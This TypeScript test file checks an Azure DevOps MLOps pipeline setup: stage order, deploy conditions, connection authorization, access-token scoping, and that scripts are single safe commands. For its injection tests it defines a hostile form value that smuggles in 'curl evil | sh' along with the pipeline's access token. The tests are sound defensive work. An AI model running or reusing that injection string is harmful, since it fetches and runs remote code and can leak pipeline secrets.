import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { Command } from "commander";
import { parse } from "yaml";
import { addCommands } from "../../cli/commands";
import { documentedPlaces } from "../../cli/docs/facts";
import {
  COMMON_VARIABLES,
  connectionName,
  HOSTED_IMAGE,
  modelEnvironment,
  ownPool,
  PIPELINES,
  type PipelineName,
  placeEnvironment,
  placeVariables,
  publishEnvironment,
  rollbackEnvironment,
  yamlOf,
} from "../../constructs/devops/names";
import { DevopsStack } from "../../stacks/devops";
import { evaluate } from "../support/pipeline-expression";
import { type Expanded, expandPipeline, type Job, type Step } from "../support/pipeline-templates";
import { places as platformPlaces } from "../support/platform";
import { synth } from "../support/synth";

const { places, models } = documentedPlaces();
const listed = places.shared.devops?.environments;
/** The environments that pipelines work in. */
const ENVIRONMENTS = places.environments.filter((e) => listed?.includes(e.name) ?? true);
const PLACES = [places.shared, ...ENVIRONMENTS];
const MAIN = "eq(variables['Build.SourceBranch'], 'refs/heads/main')";
const MODEL = "market-volatility";
/** What somebody may type in a form, to see where it ends up. */
const TYPED = `x"; curl evil | sh #$(System.AccessToken)`;

/** Every way in which a pipeline can be run, by what it is given. */
const RUNS: Readonly<Record<PipelineName, Readonly<Record<string, Readonly<Record<string, unknown>>>>>> = {
  "pull-request": { "pull-request": {} },
  deploy: { deploy: {}, "deploy again": { reviewRun: 4711 } },
  "model-release": {
    release: { model: MODEL, reason: "it is better" },
    "train and release in dev": { model: MODEL, reason: "it is better", package: "train", environments: ["dev"] },
    "roll back": { model: MODEL, reason: "it is worse", action: "rollback" },
    "roll back in prod": { model: MODEL, reason: "it is worse", action: "rollback", environments: ["prod"] },
  },
  retrain: { retrain: { model: MODEL, reason: "new data" } },
  nightly: { nightly: {} },
  destroy: { "destroy: review": {}, "destroy: for good": { reviewRun: 4711 } },
};
const runs = PIPELINES.flatMap((pipeline) =>
  Object.entries(RUNS[pipeline]).map(([run, given]) => ({ pipeline, run, ...expandPipeline(yamlOf(pipeline), given) })),
);
const jobs = runs.flatMap((r) => r.jobs.map((job) => ({ ...job, run: r.run, pipeline: r.pipeline })));
const steps = jobs.flatMap((job) => job.steps.map((step) => ({ job, step })));
const of = (run: string): Expanded => runs.find((r) => r.run === run)!;
const where = (job: Job & { readonly run: string }) => `${job.run}: ${job.stage}`;

const AZURE_CLI = "AzureCLI@2";
const commandOf = (step: Step): string | undefined => step.script ?? step.inputs?.inlineScript;
const commands = steps.flatMap(({ job, step }) => {
  const text = commandOf(step);
  return text === undefined ? [] : [{ job, step, text: text.trim() }];
});

test("each pipeline is a file of its name, each file is one, and each template is used", () => {
  const yaml = (folder: string) => readdirSync(folder).filter((f) => f.endsWith(".yml"));
  expect(yaml("pipelines").sort()).toEqual(PIPELINES.map((p) => yamlOf(p).slice("pipelines/".length)).sort());
  const all = readdirSync("pipelines", { recursive: true, encoding: "utf8" }).filter((f) => f.endsWith(".yml"));
  expect([...new Set(runs.flatMap((r) => r.files))].sort()).toEqual(all.map((f) => join("pipelines", f)).sort());
});

test("a pipeline is started by what it is for, and Azure Repos' pull requests by a policy alone", () => {
  const starts = Object.fromEntries(PIPELINES.map((p) => [p, runs.find((r) => r.pipeline === p)!]));
  for (const { pr } of runs) expect(pr).toBe("none");
  const byItself = PIPELINES.filter((p) => starts[p]!.trigger !== "none");
  expect(byItself).toEqual(["deploy"]);
  expect(starts.deploy!.trigger).toMatchObject({ batch: "true", branches: { include: ["main"] } });
  expect(PIPELINES.filter((p) => starts[p]!.schedules !== undefined)).toEqual(["nightly"]);
  expect(starts.nightly!.schedules).toEqual([
    { cron: "0 2 * * *", displayName: "Every night", branches: { include: ["main"] }, always: "true" },
  ]);
});

test("the places are those of the files of environments, on the machines that their networks ask for", () => {
  const frame = parse(readFileSync("pipelines/templates/pipeline.yml", "utf8"));
  const stated = frame.parameters.find((p: { name: string }) => p.name === "places").default as {
    name: string;
    pool: string;
    after: string;
  }[];
  const expected = PLACES.map((p) => [p.name, p.network.mode === "private" ? ownPool(p.prefix, p.name) : ""]);
  expect(stated.map((p) => [p.name, p.pool]).sort()).toEqual(expected.sort());
  // each after the one that stands before it
  expect(stated.map((p) => p.after)).toEqual(["", ...stated.slice(0, -1).map((p) => p.name)]);
  const environments = stated.map((p) => p.name).slice(1);
  for (const pipeline of ["model-release", "retrain"] as const) {
    const { parameters } = parse(readFileSync(yamlOf(pipeline), "utf8"));
    expect(parameters.find((p: { name: string }) => p.name === "trainsIn").values).toEqual(environments);
  }
  const { parameters } = parse(readFileSync(yamlOf("model-release"), "utf8"));
  expect(parameters.find((p: { name: string }) => p.name === "environments").default).toEqual(environments);
});

test("what a pipeline names in Azure DevOps is there: connections, environments, pools, groups of variables", () => {
  const connections = PLACES.flatMap((p) => [connectionName(p.name, "plan-reader"), connectionName(p.name, "deployer")]);
  const environments = [
    ...PLACES.map((p) => placeEnvironment(p.name)),
    publishEnvironment(places.shared.name),
    ...ENVIRONMENTS.flatMap((e) =>
      models
        .filter((m) => e.models.includes(m.name))
        .flatMap((m) => [modelEnvironment(e.name, m.name), rollbackEnvironment(e.name, m.name)]),
    ),
  ];
  const pools = PLACES.filter((p) => p.network.mode === "private").map((p) => ownPool(p.prefix, p.name));
  for (const { groups } of runs) expect(groups).toEqual([COMMON_VARIABLES, ...PLACES.map((p) => placeVariables(p.name))].sort(byPlace));
  for (const { step } of steps) if (step.task === AZURE_CLI) expect(connections).toContain(step.inputs!.azureSubscription);
  for (const job of jobs) {
    if (job.environment !== undefined) expect(environments).toContain(job.environment);
    expect(job.pool.vmImage === undefined ? pools : [HOSTED_IMAGE]).toContain(job.pool.name ?? job.pool.vmImage);
  }
});
const ORDER = ["azure", "azure-shared", "azure-dev", "azure-staging", "azure-prod"];
const byPlace = (a: string, b: string) => ORDER.indexOf(a) - ORDER.indexOf(b);

test.each([
  ["pull-request", ["check", "plan_shared", "plan_dev", "plan_staging", "plan_prod", "comment"]],
  ["deploy", ["publish", ...["shared", "dev", "staging", "prod"].flatMap((p) => [`review_${p}`, `apply_${p}`])]],
  ["release", ["package", "release_dev", "release_staging", "release_prod"]],
  ["train and release in dev", ["package", "release_dev"]],
  ["roll back", ["rollback_dev", "rollback_staging", "rollback_prod"]],
  ["roll back in prod", ["rollback_prod"]],
  ["retrain", ["retrain"]],
  ["nightly", ["drift_shared", "drift_dev", "drift_staging", "drift_prod", "updates", "smoke"]],
  ["destroy: review", ["review"]],
  ["destroy: for good", ["destroy"]],
])("%s goes through its stages in order", (run, stages) => {
  expect(of(run).stages.map((s) => s.stage)).toEqual(stages);
});

test("a place is reviewed once the place before is applied, and applied if there is something to apply, from main", () => {
  const { stages } = of("deploy");
  const stage = (name: string) => stages.find((s) => s.stage === name)!;
  const flat = (text: string | undefined) => text?.replace(/\s+/g, "");
  expect(stage("review_shared")).toMatchObject({ dependsOn: ["publish"], condition: undefined });
  expect(stage("review_staging").dependsOn).toEqual(["review_dev", "apply_dev"]);
  expect(stage("apply_prod").dependsOn).toEqual(["review_prod"]);
  const changes = (step: string) => `eq(dependencies.review_prod.outputs['review.${step}.changes'], 'true')`;
  expect(flat(stage("apply_prod").condition)).toBe(flat(`and(succeeded(), ${MAIN}, or(${changes("kept")}, ${changes("apps")}))`));
  // what the condition reads: job.step.variable
  const review = jobs.find((j) => j.run === "deploy" && j.stage === "review_prod")!;
  const named = review.steps.flatMap(({ name, script }) => (name === undefined ? [] : [[name, script]]));
  expect([review.name, named]).toEqual([
    "review",
    [
      ["kept", "npx mlops keep-review prod $(review)"],
      ["apps", "npx mlops deploy-apps prod --dry-run"],
    ],
  ]);
  // code is put on once its app is there, dashboards once Grafana is, and not if the deployment stopped
  const apply = jobs
    .find((j) => j.run === "deploy" && j.stage === "apply_prod")!
    .steps.map((s) => [commandOf(s)?.split(" ")[2], s.condition]);
  expect(apply.slice(-4)).toEqual([
    ["deploy", undefined],
    ["keep-review", "failed()"],
    ["deploy-apps", undefined],
    ["deploy-dashboards", undefined],
  ]);
});

test.each([
  // what became of the review and the apply of the place before, and what the review found: changes, code that waits for its app
  ["applied", "Succeeded", "Succeeded", "true", "false", true],
  ["applied with warnings", "SucceededWithIssues", "SucceededWithIssues", "true", "false", true],
  ["nothing to apply", "Succeeded", "Skipped", "false", "false", true],
  ["an approval that was not given in time", "Succeeded", "Skipped", "true", "false", false],
  ["the same, of code alone", "Succeeded", "Skipped", "false", "true", false],
  ["an approval that was refused", "Succeeded", "Failed", "true", "false", false],
  ["stopped with a new review", "Succeeded", "Failed", "true", "true", false],
  ["cancelled", "Succeeded", "Canceled", "true", "false", false],
  ["no review", "Failed", "Skipped", "", "", false],
])("a place after one that has %s is reviewed or left", (_, review, apply, changes, apps, goesOn) => {
  const { condition } = of("deploy").stages.find((s) => s.stage === "review_staging")!;
  const outputs = { "review.kept.changes": changes, "review.apps.changes": apps };
  const dependencies = { review_dev: { result: review, outputs }, apply_dev: { result: apply } };
  expect(evaluate(condition!, { dependencies })).toBe(goesOn);
});

test("a release and a training run wait their turn at the lock; a deployment gives way to a newer one", () => {
  for (const { pipeline, stages } of runs)
    for (const { stage, lockBehavior } of stages)
      expect([stage, lockBehavior]).toEqual([stage, ["model-release", "retrain"].includes(pipeline) ? "sequential" : undefined]);
});

test("the comment is written also where a plan failed, and knows of which places there should be a review", () => {
  const { condition } = of("pull-request").stages.find((s) => s.stage === "comment")!;
  expect(condition).toBe("not(canceled())");
  const { text: post, step } = commands.find(({ text }) => text.startsWith("npx mlops post-comment "))!;
  expect(step.condition).toBe("succeededOrFailed()"); // also where no artifact is there to download
  expect(post.split(" ").at(-1)!.split(",").sort()).toEqual(PLACES.map((p) => p.name).sort());
});

test("a model is taken back everywhere at once, where a release goes from place to place", () => {
  const { stages } = of("roll back");
  for (const { dependsOn } of stages) expect(dependsOn).toEqual([]);
  for (const { dependsOn } of of("release").stages) expect(dependsOn).toBeUndefined();
});

test("each dependency is a stage that is there", () => {
  for (const { run, stages } of runs) {
    const names = stages.map((s) => s.stage);
    for (const { dependsOn = [] } of stages) for (const d of dependsOn) expect([run, names]).toEqual([run, expect.arrayContaining([d])]);
    for (const { condition = "" } of stages)
      for (const [, d] of condition.matchAll(/dependencies\.(\w+)\./g)) expect([run, names]).toEqual([run, expect.arrayContaining([d])]);
  }
});

test("the pipeline of pull requests and the one of the night act as who reads, and deploy through nothing", () => {
  for (const { job, step } of steps.filter((s) => ["pull-request", "nightly"].includes(s.job.pipeline))) {
    expect([where(job), job.isDeployment]).toEqual([where(job), false]);
    expect(JSON.stringify(step)).not.toContain("deployer");
  }
});

test("who deploys does it in a deployment job, through the environment of its place, from main alone", () => {
  const deploying = steps.filter(({ step }) => step.inputs?.azureSubscription?.endsWith("-deployer"));
  expect(new Set(deploying.map((d) => d.job.pipeline))).toEqual(new Set(["deploy", "model-release", "retrain", "destroy"]));
  for (const { job, step } of deploying) {
    const place = step.inputs!.azureSubscription!.replace(/-deployer$/, "");
    expect([where(job), job.isDeployment, job.stageCondition?.includes(MAIN)]).toEqual([where(job), true, true]);
    const of = [/^rollback_/, /^(release_|package$|retrain$)/, /^publish$/, /./].findIndex((name) => name.test(job.stage));
    const { [of]: expected } = [rollbackEnvironment(place, MODEL), modelEnvironment(place, MODEL), publishEnvironment(place), place];
    expect([where(job), job.environment]).toEqual([where(job), expected]);
  }
});

test("only what applies is applied: --reviewed wherever a deployer deploys, --plan-only wherever a reader does", () => {
  const deploys = commands.filter(({ text }) => text.startsWith("npx mlops deploy "));
  expect(deploys.length).toBeGreaterThan(15);
  for (const { text, step } of deploys)
    expect([text, text.includes("--reviewed"), text.includes("--plan-only")]).toEqual(
      step.inputs!.azureSubscription!.endsWith("-deployer") ? [text, true, false] : [text, false, true],
    );
  const destroyed = deploys.filter(({ text }) => text.includes("--destroy"));
  expect(new Set(destroyed.map(({ text }) => text.split(" ")[3]))).toEqual(new Set(["dev"]));
  expect(new Set(destroyed.map(({ job }) => job.pipeline))).toEqual(new Set(["destroy"]));
});

test("the job's token is given to the steps that need it, and to no other", () => {
  for (const { job, step } of steps) {
    const needs = step.task === AZURE_CLI || /^npx mlops (fetch-review|post-comment) /.test(step.script ?? "");
    expect([where(job), commandOf(step), step.env?.SYSTEM_ACCESSTOKEN]).toEqual([
      where(job),
      commandOf(step),
      needs ? "$(System.AccessToken)" : undefined,
    ]);
  }
});

test("Terraform is installed where a step runs it, and nowhere else", () => {
  const RUNS_IT = /^(npx mlops deploy |npm test$|npm run test:)/;
  for (const job of jobs) {
    const texts = job.steps.map((s) => commandOf(s) ?? "");
    const [at, first] = [texts.indexOf("npx mlops tools"), texts.findIndex((t) => RUNS_IT.test(t))];
    expect([where(job), at >= 0, at <= first]).toEqual([where(job), first >= 0, true]);
  }
});

test("no step fails unseen, each job ends in time, and what is used of a task is known of it", () => {
  const INPUTS: Readonly<Record<string, readonly string[]>> = {
    [AZURE_CLI]: ["azureSubscription", "inlineScript", "keepAzSessionActive", "scriptLocation", "scriptType"],
    "NodeTool@0": ["versionSpec"],
  };
  for (const { job, step } of steps) {
    expect(step.continueOnError).toBeUndefined();
    if (step.task !== undefined) expect([where(job), Object.keys(step.inputs!).sort()]).toEqual([where(job), INPUTS[step.task]]);
  }
  // Microsoft's machines end a job after six hours
  for (const job of jobs)
    expect([where(job), Number(job.timeoutInMinutes) >= 15 && Number(job.timeoutInMinutes) <= 350]).toEqual([where(job), true]);
});

test("what a step refers to is set: variables of the job, of the agent, and of the step", () => {
  const AGENT = ["System.AccessToken", "Pipeline.Workspace"];
  for (const { job, step } of steps) {
    const known = [...AGENT, ...Object.keys(job.variables)];
    const used = [...JSON.stringify([step, job.variables]).matchAll(/\$\(([\w.]+)\)/g)].map((m) => m[1]!);
    expect([where(job), used.filter((u) => !known.includes(u))]).toEqual([where(job), []]);
    const own = [...(commandOf(step) ?? "").matchAll(/\$([A-Za-z_]\w*)/g)].map((m) => m[1]!);
    expect([where(job), own.filter((o) => step.env?.[o] === undefined)]).toEqual([where(job), []]);
  }
});

test("no script holds logic: each is one command of npm or mlops, and nothing that a shell would act on", () => {
  for (const { text } of commands) expect(text).toMatch(/^(npm|npx mlops) (?:[\w@./:=,-]+|\$\(\w[\w.]*\)|"\$[A-Z]+"|[ /])+$/);
});

test("what somebody types never gets into a script, and no variable of the run is put into it", () => {
  const typed = { model: TYPED, reason: TYPED };
  const filled = [
    expandPipeline(yamlOf("model-release"), { ...typed, package: TYPED, action: "release" }),
    expandPipeline(yamlOf("model-release"), { ...typed, action: "rollback" }),
    expandPipeline(yamlOf("retrain"), typed),
  ];
  const all = filled.flatMap((run) => run.jobs.flatMap((j) => j.steps));
  for (const step of all) expect(commandOf(step) ?? "").not.toContain("evil");
  const reached = all.flatMap((step) => Object.entries(step.env ?? {})).filter(([name]) => name !== "SYSTEM_ACCESSTOKEN");
  expect(new Set(reached.map(([name]) => name))).toEqual(new Set(["MODEL", "PACKAGE", "REASON"]));
  // Azure Pipelines fills `$(…)` in wherever it stands, a secret's value, too
  for (const [, value] of reached.filter(([, value]) => value !== "newest")) expect(value).toBe(TYPED.replace("$(", "$ ("));
});

describe("in the synthesized stack of Azure DevOps", () => {
  const { shared, environments: all } = platformPlaces();
  const environments = all.filter((e) => listed?.includes(e.name) ?? true);
  const model = models.find((m) => m.name === MODEL)!;
  const devops = synth((app) => new DevopsStack(app, shared, { devops: shared.devops!, environments, models: [model] }));
  const at = (expression: unknown): Readonly<Record<string, unknown>> => {
    const address = /\b(azuredevops_\w+\.[\w-]+)\./.exec(String(expression))?.[1];
    return devops.resources.find((r) => r.address === address)!.attributes;
  };
  const nameAt = (expression: unknown): string => {
    const { service_endpoint_name, name, agent_pool_id } = at(expression);
    return String(service_endpoint_name ?? name ?? nameAt(agent_pool_id));
  };
  const authorized = (pipeline: PipelineName, kind: "endpoint" | "environment" | "queue" | "variablegroup") =>
    devops
      .all("azuredevops_pipeline_authorization")
      .filter(({ attributes }) => attributes.type === kind && nameAt(attributes.pipeline_id) === pipeline)
      .map(({ attributes }) => nameAt(attributes.resource_id))
      .sort();
  const used = (pipeline: PipelineName, what: (job: Job) => readonly (string | undefined)[]) =>
    [...new Set(jobs.filter((j) => j.pipeline === pipeline).flatMap(what))].filter((n) => n !== undefined).sort();

  test.each(PIPELINES)("%s is authorized for what it uses, and for no other connection or environment", (pipeline) => {
    const connections = (job: Job) => job.steps.map((s) => s.inputs?.azureSubscription);
    expect(authorized(pipeline, "endpoint")).toEqual(used(pipeline, connections));
    expect(authorized(pipeline, "environment")).toEqual(used(pipeline, (job) => [job.environment]));
    expect(authorized(pipeline, "queue")).toEqual(expect.arrayContaining(used(pipeline, (job) => [job.pool.name])));
    expect(authorized(pipeline, "variablegroup")).toEqual([...runs.find((r) => r.pipeline === pipeline)!.groups].sort());
  });
});

/** What a command line becomes once bash has read it: its words, with the variables of the step filled in. */
function wordsOf(text: string, env: Readonly<Record<string, string>> = {}): readonly string[] {
  const filled = text.replace(/\$\(([\w.]+)\)/g, (_, name: string) => `/agent/${name}`);
  const shown = `npx() { printf '%s\\0' npx "$@"; }; npm() { printf '%s\\0' npm "$@"; }; ${filled}`;
  return execFileSync("bash", ["--norc", "-euc", shown], {
    stdio: ["ignore", "pipe", "inherit"],
    env: { PATH: process.env.PATH, ...env },
    encoding: "utf8",
  })
    .split("\0")
    .slice(0, -1);
}

const distinct = [
  ...new Map(commands.map(({ text, step }) => [`${text} ${JSON.stringify(step.env ?? {})}`, { text, env: step.env ?? {} }])).values(),
];

/** Parses a command line of mlops as it would be carried out, and stops where it would begin to act. */
async function parsed(args: readonly string[]): Promise<{ readonly command: string; readonly options: unknown }> {
  const program = new Command("mlops").exitOverride().configureOutput({ writeErr: () => {} });
  await addCommands(program, args);
  let reached: { command: string; options: unknown } | undefined;
  const hold = (command: Command): void => {
    command.exitOverride().configureOutput({ writeErr: () => {} });
    if (command.commands.length === 0)
      command.action(() => {
        reached = { command: command.name(), options: command.opts() };
      });
    command.commands.forEach(hold);
  };
  program.commands.forEach(hold);
  await program.parseAsync(args, { from: "user" });
  if (reached === undefined) throw new Error(`mlops ${args.join(" ")}: no command acts`);
  return reached;
}

test.each(distinct)("$text is a command that takes what it is given", async ({ text, env }) => {
  const [program, ...args] = wordsOf(text, env);
  if (program === "npx") {
    expect(args[0]).toBe("mlops");
    expect((await parsed(args.slice(1))).command).toBe(args.slice(1).filter((a) => !a.startsWith("-"))[args[1] === "release" ? 1 : 0]);
    return;
  }
  const scripts: Readonly<Record<string, string>> = JSON.parse(readFileSync("package.json", "utf8")).scripts;
  const OF_NPM = ["ci", "audit --audit-level=high"];
  const script = args[0] === "run" ? args[1]! : args.join(" ");
  expect(OF_NPM.includes(args.join(" ")) || scripts[script] !== undefined).toBe(true);
});

test("a command line that is wrong would be seen", async () => {
  await expect(parsed(["deploy", "dev", "--plan-olny"])).rejects.toThrow("unknown option");
  await expect(parsed(["deploy"])).rejects.toThrow("missing required argument");
  await expect(parsed(["release", "rollout", "x", "--picked", "f"])).rejects.toThrow("required option '--reason <text>' not specified");
  await expect(parsed(["deplyo", "dev"])).rejects.toThrow("unknown command");
  await expect(parsed(["fetch-review", "dev", "extra", "--to", "f"])).rejects.toThrow("too many arguments");
});

test("what is typed reaches its command as one word, whatever is in it", () => {
  const reason = `x" $(false) 'y' \`z\` ; exit`;
  const [, , , , , , , ...rest] = wordsOf('npx mlops retrain "$MODEL" --in dev --reason "$REASON"', { MODEL: "m", REASON: reason });
  expect(rest).toEqual([reason]);
});
